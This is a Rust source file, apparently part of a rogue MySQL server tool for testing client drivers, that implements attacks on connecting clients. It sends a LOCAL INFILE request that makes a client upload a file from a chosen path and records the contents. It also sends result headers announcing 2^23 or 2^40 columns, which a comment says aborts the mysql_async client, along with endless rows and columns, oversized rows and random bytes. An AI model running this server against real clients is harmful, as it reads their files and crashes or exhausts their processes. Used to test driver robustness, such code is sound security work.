//! Attacks on authenticated clients.

use std::io;

use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use super::client_packet_recorder::ClientPacketRecorder;
use super::{RogueAttack, responses};
use crate::fake_server::packets;
use crate::mysql_packets::{MAX_PAYLOAD_BYTES, read_packet, write_packet, write_packet_header};

const FILLER_CHUNK_SIZE: usize = 64 << 10;

/// Performs the attack `mode`. Returns false without sending anything if the attack targets only the login.
pub(super) async fn try_attack_client<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    statement: &str,
    mode: &RogueAttack,
    recording: &ClientPacketRecorder,
) -> io::Result<bool> {
    let columns = responses::count_result_columns(statement).unwrap_or(1);
    match mode {
        RogueAttack::FullAuthentication
        | RogueAttack::ClearPassword
        | RogueAttack::OldPassword
        | RogueAttack::Sha256Password => return Ok(false),
        _ => recording.increment_attack_count(),
    }
    match mode {
        RogueAttack::LocalInfile(path) => request_local_infile(stream, path, recording).await?,
        RogueAttack::HugePacket { bytes } => send_huge_row(stream, columns, *bytes, recording).await?,
        RogueAttack::EndlessRows => send_endless_rows(stream, columns, recording).await?,
        RogueAttack::EndlessColumns => {
            write_packet(stream, 1, &LARGE_COLUMN_COUNT_PACKET).await?;
            let column = packets::encode_column_definition(&"c".repeat(64));
            send_packet_repeatedly(stream, 2, &column, recording).await?;
        }
        RogueAttack::HugeColumnCount => {
            write_packet(stream, 1, &HUGE_COLUMN_COUNT_PACKET).await?;
            stream.flush().await?;
            wait_for_disconnect(stream).await?;
        }
        _ => send_random_bytes(stream, recording).await?,
    }
    Ok(true)
}

/// Result set header that announces 2^23 columns.
/// MySQL drivers can allocate memory for 2^23 columns and then start to read the column definitions.
const LARGE_COLUMN_COUNT_PACKET: [u8; 4] = [0xfd, 0, 0, 0x80];
/// Result set header that announces 2^40 columns.
/// For 2^40 columns, `mysql_async` tries to allocate 32 TiB, which aborts the client process.
const HUGE_COLUMN_COUNT_PACKET: [u8; 9] = [0xfe, 0, 0, 0, 0, 0, 1, 0, 0];

async fn request_local_infile<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    path: &str,
    recording: &ClientPacketRecorder,
) -> io::Result<()> {
    write_packet(stream, 1, &[&[0xfb], path.as_bytes()].concat()).await?;
    stream.flush().await?;
    loop {
        let (sequence, chunk) = read_packet(stream).await?;
        if chunk.is_empty() {
            return write_packet(stream, sequence.wrapping_add(1), &packets::OK_PACKET).await;
        }
        recording.append_client_packet(chunk);
    }
}

async fn send_huge_row<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    columns: usize,
    bytes: u64,
    recording: &ClientPacketRecorder,
) -> io::Result<()> {
    let mut sequence = responses::send_column_definitions(stream, columns).await?;
    let mut start: Vec<u8> = b"\x011".repeat(columns.saturating_sub(1));
    start.push(0xfe);
    start.extend_from_slice(&bytes.to_le_bytes());
    let mut left = usize::try_from(bytes).map_err(io::Error::other)? + start.len();
    let filler = vec![b'x'; FILLER_CHUNK_SIZE];
    loop {
        let payload = left.min(MAX_PAYLOAD_BYTES);
        write_packet_header(stream, sequence, payload).await?;
        sequence = sequence.wrapping_add(1);
        let mut unsent = payload;
        while unsent > 0 {
            let source = if start.is_empty() { &filler } else { &start };
            let chunk = source.get(..source.len().min(unsent)).unwrap_or_default();
            stream.write_all(chunk).await?;
            recording.add_bytes_sent(chunk.len());
            unsent -= chunk.len();
            start.clear();
        }
        left -= payload;
        // After a packet of the maximum size, the protocol requires another packet, which may be empty.
        if payload < MAX_PAYLOAD_BYTES {
            return write_packet(stream, sequence, &packets::EOF_PACKET).await;
        }
    }
}

async fn send_endless_rows<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    columns: usize,
    recording: &ClientPacketRecorder,
) -> io::Result<()> {
    let sequence = responses::send_column_definitions(stream, columns).await?;
    let statement = "x".repeat(1000);
    let mut values: Vec<Option<&[u8]>> = vec![Some(b"1"); columns];
    if let Some(last) = values.last_mut() {
        *last = Some(statement.as_bytes());
    }
    send_packet_repeatedly(stream, sequence, &packets::encode_row(&values), recording).await
}

async fn send_packet_repeatedly<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    mut sequence: u8,
    payload: &[u8],
    recording: &ClientPacketRecorder,
) -> io::Result<()> {
    loop {
        write_packet(stream, sequence, payload).await?;
        recording.add_bytes_sent(payload.len());
        sequence = sequence.wrapping_add(1);
    }
}

async fn send_random_bytes<S: AsyncRead + AsyncWrite + Unpin>(
    stream: &mut S,
    recording: &ClientPacketRecorder,
) -> io::Result<()> {
    let mut state = 0x9e37_79b9_u32;
    for _ in 0..16 {
        let chunk: Vec<u8> = std::iter::repeat_with(|| {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            state.to_le_bytes()[0]
        })
        .take(FILLER_CHUNK_SIZE)
        .collect();
        stream.write_all(&chunk).await?;
        recording.add_bytes_sent(chunk.len());
    }
    stream.shutdown().await
}

async fn wait_for_disconnect(stream: &mut (impl AsyncRead + Unpin)) -> io::Result<()> {
    let mut ignored = [0; 1024];
    while stream.read(&mut ignored).await? > 0 {}
    Ok(())
}
